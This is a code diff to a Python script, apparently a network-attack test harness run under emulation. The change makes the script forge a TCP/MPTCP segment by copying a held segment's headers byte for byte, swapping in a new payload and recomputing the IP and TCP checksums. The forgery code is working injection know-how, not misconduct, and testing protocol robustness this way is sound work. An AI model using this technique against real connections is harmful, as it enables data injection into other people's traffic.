@@ -25,11 +25,13 @@ Prints one "attack: ..." line; exit status 0 when the segment was sent.
 """
 import os
 import socket
+import struct
 import sys
 import time
 
 # scapy.all takes many seconds to import under TCG: only what is needed
 from scapy.layers.inet import IP, TCP
+from scapy.utils import checksum
 
 WAIT_SEC = 240
 
@@ -57,15 +59,20 @@ def forge(mode, held, old, text):
     else:
         ob = bytes(IP(old)[TCP].payload)
         body = (ob * (plen // max(len(ob), 1) + 1))[:plen]
-    # same headers and options (DSS mapping), new payload
-    new = pkt.copy()
-    new[TCP].remove_payload()
-    new[TCP].add_payload(body)
-    del new[IP].len
-    del new[IP].chksum
-    del new[TCP].chksum
-    new[IP].id = (pkt.id + 7) & 0xffff
-    return new, plen
+    # the held segment's IP and TCP headers byte for byte (options, DSS
+    # mapping: never re-encoded), the new payload, checksums recomputed
+    hlen = pkt.ihl * 4 + tcp.dataofs * 4
+    raw = bytearray(held[:hlen] + body)
+    struct.pack_into('!H', raw, 2, len(raw))
+    struct.pack_into('!H', raw, 4, (pkt.id + 7) & 0xffff)
+    struct.pack_into('!H', raw, 10, 0)
+    struct.pack_into('!H', raw, 10, checksum(bytes(raw[:pkt.ihl * 4])))
+    seg = raw[pkt.ihl * 4:]
+    struct.pack_into('!H', seg, 16, 0)
+    pseudo = held[12:20] + struct.pack('!BBH', 0, 6, len(seg))
+    struct.pack_into('!H', seg, 16, checksum(pseudo + bytes(seg)))
+    raw[pkt.ihl * 4:] = seg
+    return IP(bytes(raw)), plen
 
 
 def main():
